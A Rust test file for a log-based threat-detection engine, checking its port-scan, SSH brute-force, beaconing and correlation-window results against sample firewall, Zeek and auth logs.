/// vps2022_ufw.log: 1,832 UFW BLOCK lines over five hours. Counting distinct DPT per SRC with
/// awk, nine sources probed 20 or more ports (a slow vertical scan each); six sources made 3 or
/// more blocked attempts on remote-service ports (1433, 3389, 23).
#[test]
fn corpus_vps_ufw_log_scanners() {
    let Some(root) = corpus() else {
        return;
    };
    let detections = detect_files(&[root.join("iptables_ufw/vps2022_ufw.log")]);

    let scanners: Vec<(String, u64)> = [
        ("171.67.70.80", 23),
        ("171.67.71.40", 21),
        ("45.143.200.110", 37),
        ("79.124.62.110", 24),
        ("79.124.62.130", 32),
        ("79.124.62.34", 34),
        ("79.124.62.78", 44),
        ("79.124.62.82", 36),
        ("79.124.62.86", 55),
    ]
    .iter()
    .map(|(src, lines)| ((*src).to_owned(), *lines))
    .collect();
    assert_eq!(sources(&detections, PORT_SCAN), scanners);

    let attempts: Vec<(String, u64)> = [
        ("121.40.148.149", 3),
        ("158.247.214.105", 5),
        ("158.247.222.206", 4),
        ("203.192.236.21", 3),
        ("45.155.204.132", 3),
        ("79.124.62.62", 3),
    ]
    .iter()
    .map(|(src, lines)| ((*src).to_owned(), *lines))
    .collect();
    let title = "Unauthorized Access Attempts On Remote Services";
    assert_eq!(sources(&detections, title), attempts);
}

/// RITA's beaconing capture, ssh.log: 1,224 sessions have auth_success F. Counting them per
/// id.orig_h in a 10-minute sliding window with awk, eight sources reach 10 or more; each
/// detection counts the failed sessions inside a window that held 10 or more (awk over the 24
/// files in order: for each session, the sessions of its source within the 600 s before it; when
/// they are 10 or more, all of them are marked). For six sources that is every failed session
/// of the day; 183.81.169.238 has 116 failed sessions of which 37 lie in no such window (79
/// are counted), 89.32.41.104 has 313 of which 6 lie in none (307).
#[test]
fn corpus_rita_ssh_brute_force() {
    let Some(root) = corpus() else {
        return;
    };
    let dir = root.join("zeek/rita_beacon_2024-04-19");
    let mut files: Vec<std::path::PathBuf> = std::fs::read_dir(&dir)
        .map(|entries| entries.filter_map(|e| e.ok()).map(|e| e.path()).collect())
        .unwrap_or_default();
    files.retain(|path| path.to_string_lossy().contains("/ssh."));
    files.sort();
    assert_eq!(files.len(), 24);

    let detections = detect_files(&files);

    let expected: Vec<(String, u64)> = [
        ("118.41.204.57", 32),
        ("170.64.237.193", 464),
        ("179.43.180.108", 81),
        ("183.81.169.238", 79),
        ("220.80.110.205", 32),
        ("60.51.53.31", 32),
        ("82.66.61.97", 30),
        ("89.32.41.104", 307),
    ]
    .iter()
    .map(|(src, failures)| ((*src).to_owned(), *failures))
    .collect();
    assert_eq!(
        sources(&detections, "SSH Brute Force Seen On The Network"),
        expected
    );
}

/// RITA's beaconing capture: 73.54.23.243 made 317 connections to 64.225.56.201:80 over the day
/// (zcat conn.* | awk on id.orig_h), an HTTP beacon every 200 to 350 seconds.
#[test]
fn corpus_rita_beacon_pair() {
    let Some(root) = corpus() else {
        return;
    };
    let dir = root.join("zeek/rita_beacon_2024-04-19");
    let mut files: Vec<std::path::PathBuf> = std::fs::read_dir(&dir)
        .map(|entries| entries.filter_map(|e| e.ok()).map(|e| e.path()).collect())
        .unwrap_or_default();
    files.retain(|path| path.to_string_lossy().contains("/conn."));
    files.sort();
    assert_eq!(files.len(), 24);

    let detections = detect_files(&files);

    let beacons = titled(&detections, BEACONING);
    let pair = beacons
        .iter()
        .find(|d| d.src_ip.as_deref() == Some("73.54.23.243"));
    let Some(pair) = pair else {
        panic!("beacon pair not found: {beacons:#?}");
    };
    assert_eq!(pair.dst_ip.as_deref(), Some("64.225.56.201"));
    assert_eq!(pair.dst_port, Some(80));
    assert_eq!(pair.count, 317);
    let interval: f64 = detail(pair, "median_interval_secs")
        .and_then(|s| s.parse().ok())
        .unwrap_or(0.0);
    assert!((200.0..=350.0).contains(&interval), "interval {interval}");
}

/// Detection cost over real files, without parsing in the measurement: run with
/// `DETECT_PERF_DIR=/some/logs cargo test --release --test detect detection_cost -- --ignored
/// --nocapture`. Loads every file of the directory into memory, then times one detector over
/// the events (file after file) and prints thread CPU seconds and the detections per title.
#[test]
#[ignore = "prints a measurement; run by hand in release mode"]
fn detection_cost_on_directory() {
    let Ok(dir) = std::env::var("DETECT_PERF_DIR") else {
        println!("set DETECT_PERF_DIR to a directory of logs");
        return;
    };
    let mut paths: Vec<std::path::PathBuf> = std::fs::read_dir(&dir)
        .map(|entries| entries.filter_map(|e| e.ok()).map(|e| e.path()).collect())
        .unwrap_or_default();
    paths.sort();
    let options = threatlens::engine::ingest::IngestOptions {
        year: Some(2022),
        ..Default::default()
    };
    let mut events = Vec::new();
    for (index, path) in paths.iter().enumerate() {
        let file = u32::try_from(index).unwrap_or(u32::MAX);
        threatlens::engine::ingest::ingest_file(path, file, &options, &mut |batch| {
            events.extend(batch);
        });
    }

    let rules = match std::env::var("DETECT_PERF_RULES") {
        Ok(dir) => RuleSet::from_dir_only(Path::new(&dir)).unwrap_or_else(|_| bundled()),
        Err(_) => bundled(),
    };
    let rss_before = resident_kib();
    let cpu_before = thread_cpu_secs();
    let mut detector = Detector::new(&rules);
    for event in &events {
        detector.observe(event);
    }
    let rss_grown = resident_kib() - rss_before;
    let detections = detector.finish();
    let cpu = thread_cpu_secs() - cpu_before;
    println!(
        "{} events: {cpu:.2} s of CPU, {:.0} events/s, {} detections, detector state {} MiB",
        events.len(),
        events.len() as f64 / cpu,
        detections.len(),
        rss_grown / 1024
    );
    let mut titles: Vec<(String, usize, u64)> = Vec::new();
    for detection in &detections {
        match titles
            .iter_mut()
            .find(|(title, _, _)| *title == detection.title)
        {
            Some(entry) => {
                entry.1 += 1;
                entry.2 += detection.count;
            }
            None => titles.push((detection.title.clone(), 1, detection.count)),
        }
    }
    for (title, found, count) in titles {
        println!("  {found:>6} {title} ({count} events)");
    }
}

/// A correlation's detection covers only the events inside a firing window: three failures
/// hours before the burst and two hours after it are the group's, but no 10-minute window
/// around them holds 10 failures, so they are not evidence. Of the burst, all 12 count (the
/// nine before the threshold was crossed were still in the window when it was).
#[test]
fn correlation_evidence_leaves_out_events_outside_firing_windows() {
    let src = "198.51.100.31";
    let mut events: Vec<Event> = (0..3)
        .map(|n| ssh_login(n + 1, n as i64 * 3_600, src, "root", Outcome::Failure))
        .collect();
    events.extend((0..12).map(|n| {
        ssh_login(
            10 + n,
            20_000 + n as i64 * 20,
            src,
            "root",
            Outcome::Failure,
        )
    }));
    events.extend((0..2).map(|n| {
        ssh_login(
            30 + n,
            30_000 + n as i64 * 3_600,
            src,
            "root",
            Outcome::Failure,
        )
    }));

    let detections = run(&bundled(), &events);

    let brute = titled(&detections, BRUTE_FORCE);
    assert_eq!(brute.len(), 1, "{detections:#?}");
    assert_eq!(brute[0].count, 12);
    assert_eq!(brute[0].evidence_total, 12);
    let lines: Vec<u64> = brute[0].evidence.iter().map(|at| at.line).collect();
    assert_eq!(lines, (10..22).collect::<Vec<u64>>());
    assert_eq!(brute[0].first_seen, Some(time_at(20_000)));
    assert_eq!(brute[0].last_seen, Some(time_at(20_220)));
}

/// Two bursts from one source hours apart fire twice; both extend the one detection, and the
/// four scattered failures between them stay out.
#[test]
fn a_group_firing_again_extends_its_detection() {
    let src = "198.51.100.32";
    let burst = |first_line: u64, start: i64| {
        (0..10).map(move |n| {
            ssh_login(
                first_line + n,
                start + n as i64 * 30,
                src,
                "root",
                Outcome::Failure,
            )
        })
    };
    let mut events: Vec<Event> = burst(1, 0).collect();
    events.extend((0..4).map(|n| {
        ssh_login(
            20 + n,
            3_600 + n as i64 * 3_600,
            src,
            "root",
            Outcome::Failure,
        )
    }));
    events.extend(burst(40, 20_000));

    let detections = run(&bundled(), &events);

    let brute = titled(&detections, BRUTE_FORCE);
    assert_eq!(brute.len(), 1, "{detections:#?}");
    assert_eq!(brute[0].count, 20);
    assert!(
        brute[0]
            .evidence
            .iter()
            .all(|at| at.line < 20 || at.line >= 40)
    );
    assert_eq!(brute[0].first_seen, Some(time_at(0)));
    assert_eq!(brute[0].last_seen, Some(time_at(20_270)));
}

/// "Success on a host under attack" reports only the logins within the hour after the host's
/// failure correlation fired: an admin's logins two hours before and three hours after the
/// attack are not evidence.
#[test]
fn success_on_host_evidence_is_only_the_logins_inside_the_window() {
    let mut events = vec![ssh_login(1, 0, "10.0.1.20", "alice", Outcome::Success)];
    events.extend((0..20).map(|n| {
        ssh_login(
            10 + n,
            7_200 + n as i64 * 10,
            "198.51.100.20",
            "root",
            Outcome::Failure,
        )
    }));
    events.push(ssh_login(
        40,
        7_500,
        "203.0.113.77",
        "adam",
        Outcome::Success,
    ));
    events.push(ssh_login(
        41,
        18_000,
        "10.0.1.20",
        "alice",
        Outcome::Success,
    ));

    let detections = run(&bundled(), &events);

    let on_host = titled(&detections, SUCCESS_ON_HOST);
    assert_eq!(on_host.len(), 1, "{detections:#?}");
    assert_eq!(on_host[0].evidence, vec![at(40)]);
    assert_eq!(on_host[0].count, 1);
    assert_eq!(on_host[0].user.as_deref(), Some("adam"));
    assert_eq!(on_host[0].first_seen, Some(time_at(7_500)));
}

/// Correlations left to rsigma follow the same rule: an upload ten hours before the three that
/// sum past 1,000 bytes within the hour, and one five hours after, are not evidence.
#[test]
fn rsigma_correlation_evidence_is_the_firing_window() {
    let rules = match RuleSet::from_yaml("sum.yml", UPLOAD_SUM_RULES) {
        Ok(rules) => rules,
        Err(error) => panic!("rule does not load: {error}"),
    };
    let upload =
        |line: u64, secs: i64| conn(line, secs * 1_000, "10.0.0.8", "203.0.113.9", 8443, 400);
    let events = vec![
        upload(1, 0),
        upload(2, 36_000),
        upload(3, 36_060),
        upload(4, 36_120),
        upload(5, 54_000),
    ];

    let detections = run(&rules, &events);

    let sums = titled(&detections, "Many Bytes To Port 8443");
    assert_eq!(sums.len(), 1, "{detections:#?}");
    assert_eq!(sums[0].evidence, vec![at(2), at(3), at(4)]);
    assert_eq!(sums[0].count, 3);
}

/// The demo's auth.log (assets/samples/README.md): the brute force from 203.0.113.45 runs
/// 02:04:11 (line 49) to 02:31:32 (line 704), and deploy logs in from it at 02:31:48 (line
/// 707). The admin's and backup job's key logins (lines 13, 33, 827, 868 at 00:41, 01:30,
/// 08:58, 11:20) fall in no hour after a firing of "Many Failed Logins Against One Host", so
/// only line 707 is a success on a host under attack. Host-level failures (sshd "Failed
/// password", pam_unix "authentication failure;" and "maximum authentication attempts" lines,
/// 375 in all): an awk sliding 10-minute window marking every window of 20 or more finds 347
/// failures inside a firing window, from line 49 to line 704; the 28 others are background
/// failures spread over the day.
#[test]
fn demo_auth_log_success_on_host_is_only_the_login_after_the_attack() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/samples/auth.log");
    let detections = detect_files(&[path]);

    let on_host = titled(&detections, SUCCESS_ON_HOST);
    assert_eq!(on_host.len(), 1, "{on_host:#?}");
    let lines: Vec<u64> = on_host[0].evidence.iter().map(|at| at.line).collect();
    assert_eq!(lines, vec![707]);
    assert_eq!(on_host[0].count, 1);
    assert_eq!(on_host[0].user.as_deref(), Some("deploy"));
    assert_eq!(on_host[0].first_seen, on_host[0].last_seen);

    let host = titled(&detections, "Many Failed Logins Against One Host");
    assert_eq!(host.len(), 1, "{host:#?}");
    assert_eq!(host[0].count, 347);
    assert_eq!(host[0].evidence.first().map(|at| at.line), Some(49));
    let span = match (host[0].first_seen, host[0].last_seen) {
        (Some(first), Some(last)) => last.as_second() - first.as_second(),
        other => panic!("no time span: {other:?}"),
    };
    // 02:04:11 to 02:31:32.
    assert_eq!(span, 27 * 60 + 21);
}
